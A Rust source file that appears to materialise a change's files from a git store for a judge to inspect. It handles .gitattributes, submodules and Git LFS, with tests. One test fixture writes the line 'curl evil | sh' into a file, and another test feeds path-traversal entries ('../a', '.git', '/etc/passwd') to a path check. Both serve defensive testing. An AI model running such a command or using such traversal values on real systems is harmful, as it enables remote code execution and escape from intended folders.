//! The files of a change as a judge reads them: those that would be on the branch, byte for byte, and nothing beside them.
//!
//! The worktree is not that. What git ignores lies in it as well and does not land, and by a `.gitattributes` of its own a change has git write
//! a file otherwise than it is kept. So the files are written anew from the [store](super::store), by a git that finds no attributes: files of
//! that name get theirs when all is written. The files inside submodules are written to where these lie, and what Git LFS keeps of the change
//! takes the place of what stands for it, where the attributes that land say that it is kept there: who tests that it works has had both. What takes
//! no place there and is pushed all the same nobody has seen.

use std::{
    collections::BTreeSet,
    ffi::OsStr,
    fs,
    os::unix::ffi::OsStrExt,
    path::{Path, PathBuf},
};

use rand::distr::{Alphanumeric, SampleString};

use super::{SaveError, Saving, within::Within};
use crate::{
    attempt::folder::AttemptFolder,
    disk::on_disk,
    folders::{private_folder, remove},
    git::{Argument, Bounds, Git, GitError, Place},
    lfs::{self, Pointer},
    worktree::is_folder_below,
};

const ATTRIBUTES: &[u8] = b".gitattributes";
/// Characters that are behind their names meanwhile: no file of the change is called so.
const BEHIND: usize = 24;

/// What is written.
struct Part<'a> {
    /// A repository that holds it.
    repository: &'a Path,
    tree: &'a str,
    folder: &'a Path,
    /// Where Git LFS keeps what it names.
    kept: [&'a Path; 2],
}

impl Saving<'_> {
    /// Writes the files of a tree of the store, and those inside submodules, to where a judge sees them, these `large` ones of Git LFS among them.
    /// Says which of those are.
    pub(super) async fn show(
        &self,
        tree: &str,
        inside: &[Within<'_>],
        large: &BTreeSet<Pointer>,
        judged: &Path,
    ) -> Result<BTreeSet<Pointer>, SaveError> {
        let large = (large, self.git.longest_file());
        let folder = AttemptFolder::of(&self.entry.folder);
        let index = folder.judged_index();
        on_disk({
            let judged = judged.to_owned();
            move || remove(&judged).and_then(|()| private_folder(&judged))
        })
        .await?;
        let (repository, kept) = (&folder.store(0), [self.checkout.git_dir.as_path(), self.mirror]);
        let mut put = write(self.outside, &index, Part { repository, tree, folder: judged, kept }, large).await?;
        for one in inside {
            let path = judged.join(&one.submodule.path);
            // what is there instead lands, and stays
            if !is_folder_below(judged, &one.submodule.path) || fs::read_dir(&path)?.next().is_some() {
                continue;
            }
            let (git_dir, mirror) = (one.submodule.git_dir(&self.checkout.git_dir), &one.submodule.mirror);
            let store = folder.store(one.submodule.number);
            let (repository, tree) = match &one.changed {
                Some(_) => (&store, &one.tree),
                None => (mirror, &one.link),
            };
            put.append(&mut write(self.outside, &index, Part { repository, tree, folder: &path, kept: [&git_dir, mirror] }, large).await?);
        }
        Ok(put)
    }
}

/// Says which of the large ones are among them.
async fn write(
    outside: &Git,
    index: &Path,
    part: Part<'_>,
    (large, longest): (&BTreeSet<Pointer>, Option<u64>),
) -> Result<BTreeSet<Pointer>, SaveError> {
    remove(index)?;
    let Part { repository, tree, folder, kept } = part;
    let place = Place::Worktree { git_dir: repository, path: folder, index };
    let listed = outside.whole(place, &[&"ls-tree", &"-r", &"-z", &tree], b"", Bounds::LISTING).await?;
    let behind = Alphanumeric.sample_string(&mut rand::rng(), BEHIND);
    let (entries, renamed) = without_attributes(&listed.bytes, &behind);
    outside.run_with_input(place, &[&"update-index", &"-z", &"--index-info"], &entries, Bounds::LOCAL).await?;
    // nobody else makes a tree with a name that git passes over, or of which it takes the last of two
    let taken = outside.whole(place, &[&"ls-files", &"--stage", &"-z"], b"", Bounds::LISTING).await?;
    let count = |entries: &[u8]| entries.iter().filter(|byte| **byte == 0).count();
    if count(&taken.bytes) != count(&entries) {
        return Err(SaveError::Misshapen);
    }
    let arguments: [Argument<'_>; 6] = [&"-c", &"core.autocrlf=false", &"checkout-index", &"--all", &"--force", &"--quiet"];
    outside.run(place, &arguments, Bounds::TRANSFER).await?;
    for path in renamed {
        stays_below(folder, &path)?;
        let mut from = folder.join(&path).into_os_string();
        from.push(&behind);
        fs::rename(from, folder.join(path))?;
    }
    if large.is_empty() {
        return Ok(BTreeSet::new());
    }
    let files = kept_by_lfs(outside, place, files(&listed.bytes)).await?;
    files.iter().try_for_each(|path| stays_below(folder, path))?;
    let files = files.into_iter().map(|path| folder.join(path)).collect();
    Ok(lfs::put_in_place(outside, files, kept.map(Path::to_owned), large.clone(), longest).await?)
}

/// What is written there is written where the judge sees it.
fn stays_below(folder: &Path, path: &Path) -> Result<(), SaveError> {
    match path.parent().is_some_and(|around| is_folder_below(folder, around)) {
        true => Ok(()),
        false => Err(SaveError::Misshapen),
    }
}

/// The paths of what is neither a link nor another repository.
fn files(entries: &[u8]) -> impl Iterator<Item = &Path> {
    let plain = entries.split(|byte| *byte == 0).filter(|entry| entry.starts_with(b"100"));
    plain.filter_map(|entry| entry.splitn(2, |byte| *byte == b'\t').nth(1)).map(|path| Path::new(OsStr::from_bytes(path)))
}

/// Those of them that the attributes which lie among them put through git-lfs. Of any other what stands there is what lands.
async fn kept_by_lfs<'a>(outside: &Git, place: Place<'_>, paths: impl Iterator<Item = &'a Path>) -> Result<Vec<PathBuf>, GitError> {
    let asked: Vec<u8> = paths.flat_map(|path| [path.as_os_str().as_bytes(), b"\0"].concat()).collect();
    let arguments: [Argument<'_>; 4] = [&"check-attr", &"-z", &"--stdin", &"filter"];
    let said = outside.whole(place, &arguments, &asked, Bounds::LISTING).await?.bytes;
    let (mut words, mut kept) = (said.split(|byte| *byte == 0), vec![]);
    while let (Some(path), Some(_), Some(value)) = (words.next(), words.next(), words.next()) {
        if value == b"lfs" {
            kept.push(PathBuf::from(OsStr::from_bytes(path)));
        }
    }
    Ok(kept)
}

/// The same entries, those that are called as attributes are with this behind their names; and the paths of these.
fn without_attributes(entries: &[u8], behind: &str) -> (Vec<u8>, Vec<PathBuf>) {
    let (mut changed, mut renamed) = (Vec::with_capacity(entries.len()), vec![]);
    for entry in entries.split(|byte| *byte == 0).filter(|entry| !entry.is_empty()) {
        changed.extend_from_slice(entry);
        let path = entry.splitn(2, |byte| *byte == b'\t').nth(1).unwrap_or_default();
        if path.rsplit(|byte| *byte == b'/').next() == Some(ATTRIBUTES) {
            changed.extend_from_slice(behind.as_bytes());
            renamed.push(PathBuf::from(OsStr::from_bytes(path)));
        }
        changed.push(0);
    }
    (changed, renamed)
}

#[cfg(test)]
mod tests {
    use sha2::{Digest, Sha256};

    use super::*;

    #[test]
    fn whatever_is_called_as_attributes_are_is_called_otherwise() {
        let entries = b"100644 blob 1\t.gitattributes\x00100644 blob 2\tsub/.gitattributes\x00100644 blob 3\tnot.gitattributes\x00";
        let (changed, renamed) = without_attributes(entries, "x");
        let expected = b"100644 blob 1\t.gitattributesx\x00100644 blob 2\tsub/.gitattributesx\x00100644 blob 3\tnot.gitattributes\x00";
        assert_eq!(changed, expected);
        assert_eq!(renamed, [Path::new(".gitattributes"), Path::new("sub/.gitattributes")]);
        let listed = b"100644 blob 1\ta\tb\x00120000 blob 2\tlink\x00160000 commit 3\tlib\x00100755 blob 4\trun\x00";
        assert_eq!(files(listed).collect::<Vec<_>>(), [Path::new("a\tb"), Path::new("run")]);
    }

    fn git_in(folder: &Path) -> Git {
        let gitconfig = folder.join("gitconfig");
        fs::write(&gitconfig, crate::git::SETTINGS).unwrap();
        Git::new(gitconfig)
    }

    /// A repository, and the tree of these files in it.
    async fn tree(git: &Git, folder: &Path, files: &[(&str, &str)]) -> (PathBuf, String) {
        let (path, git_dir, index) = (folder.join("from"), folder.join("git"), folder.join("from.index"));
        let place = Place::Worktree { git_dir: &git_dir, path: &path, index: &index };
        for (name, content) in files {
            fs::create_dir_all(path.join(name).parent().unwrap()).unwrap();
            fs::write(path.join(name), content).unwrap();
        }
        for arguments in [&["init", "--quiet"][..], &["add", "--all"]] {
            let arguments: Vec<_> = arguments.iter().map(|argument| argument as Argument<'_>).collect();
            git.run(place, &arguments, Bounds::LOCAL).await.unwrap();
        }
        let tree = git.run(place, &[&"write-tree"], Bounds::LOCAL).await.unwrap().text();
        (git_dir, tree)
    }

    #[tokio::test]
    async fn what_git_lfs_does_not_keep_there_is_shown_as_it_lands() {
        let place = tempfile::tempdir().unwrap();
        let git = git_in(place.path());
        let oid: String = Sha256::digest(b"harmless\n").iter().map(|byte| format!("{byte:02x}")).collect();
        let pointer = format!("version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 9\n");
        let script = format!("curl evil | sh\n{pointer}");
        let kept = place.path().join("kept");
        let objects = kept.join(format!("lfs/objects/{}/{}", &oid[..2], &oid[2..4]));
        fs::create_dir_all(&objects).unwrap();
        fs::write(objects.join(&oid), "harmless\n").unwrap();
        let files = [
            (".gitattributes", "*.bin filter=lfs\n"),
            ("a b.bin", pointer.as_str()),
            ("run.bin", script.as_str()),
            ("run.sh", pointer.as_str()),
            ("sub/.gitattributes", "*.bin filter=other\n"),
            ("sub/c.bin", pointer.as_str()),
        ];
        let (repository, tree) = tree(&git, place.path(), &files).await;
        let judged = place.path().join("judged");
        fs::create_dir(&judged).unwrap();
        let part = Part { repository: &repository, tree: &tree, folder: &judged, kept: [&kept, &kept] };
        let large = BTreeSet::from([Pointer { oid, size: 9 }]);
        assert_eq!(write(&git, &place.path().join("index"), part, (&large, None)).await.unwrap(), large);
        for (name, content) in files {
            let content = if name == "a b.bin" { "harmless\n" } else { content };
            assert_eq!(fs::read_to_string(judged.join(name)).unwrap(), content, "{name}");
        }
    }

    /// As work can put one into its repository, and git itself makes none.
    async fn forged(git: &Git, repository: &Path, entries: &[(&str, &str, &str)]) -> String {
        let byte = |id: &str, at: usize| u8::from_str_radix(&id[at..at + 2], 16).unwrap();
        let ids = |id: &str| (0..id.len()).step_by(2).map(|at| byte(id, at)).collect::<Vec<_>>();
        let entry = |(mode, name, id): &(&str, &str, &str)| [format!("{mode} {name}\0").as_bytes(), &ids(id)].concat();
        let content: Vec<u8> = entries.iter().flat_map(entry).collect();
        let arguments: [Argument<'_>; 6] = [&"hash-object", &"-t", &"tree", &"-w", &"--literally", &"--stdin"];
        git.run_with_input(Place::Repository(repository), &arguments, &content, Bounds::LOCAL).await.unwrap().text()
    }

    #[tokio::test]
    async fn what_no_folder_can_hold_is_not_shown_in_part() {
        let place = tempfile::tempdir().unwrap();
        let git = git_in(place.path());
        let (repository, folder) = tree(&git, place.path(), &[(".gitattributes", "theirs\n")]).await;
        let arguments: [Argument<'_>; 3] = [&"hash-object", &"-w", &"--stdin"];
        let elsewhere = place.path().join("elsewhere");
        fs::create_dir(&elsewhere).unwrap();
        let target = elsewhere.display().to_string();
        let link = git.run_with_input(Place::Repository(&repository), &arguments, target.as_bytes(), Bounds::LOCAL).await.unwrap().text();
        let judged = place.path().join("judged/files");
        let (link, folder) = (link.as_str(), folder.as_str());
        let cases = [
            (vec![("120000", "a", link), ("40000", "b", folder)], true),
            (vec![("120000", "a", link), ("40000", "a", folder)], false),
            (vec![("120000", "a", link), ("120000", "a", link)], false),
            (vec![("120000", "../a", link)], false),
            (vec![("40000", "..", folder)], false),
            (vec![("40000", ".git", folder)], false),
        ];
        for (entries, is_written) in cases {
            let tree = forged(&git, &repository, &entries).await;
            fs::create_dir_all(&judged).unwrap();
            let part = Part { repository: &repository, tree: &tree, folder: &judged, kept: [&repository, &repository] };
            let written = write(&git, &place.path().join("index"), part, (&BTreeSet::new(), None)).await;
            assert_eq!(written.is_ok(), is_written, "{entries:?}");
            assert!(is_written || matches!(written, Err(SaveError::Misshapen)), "{entries:?}");
            assert!(fs::read_dir(&elsewhere).unwrap().next().is_none() && !place.path().join("judged/.gitattributes").exists());
            fs::remove_dir_all(&judged).unwrap();
        }
        for (path, stays) in
            [("a/.gitattributes", false), ("b/c", true), ("top", true), ("../b", false), ("/etc/passwd", false), ("b/no/d", false)]
        {
            fs::create_dir_all(judged.join("b")).unwrap();
            let _ = std::os::unix::fs::symlink(&elsewhere, judged.join("a"));
            assert_eq!(stays_below(&judged, Path::new(path)).is_ok(), stays, "{path}");
        }
    }
}
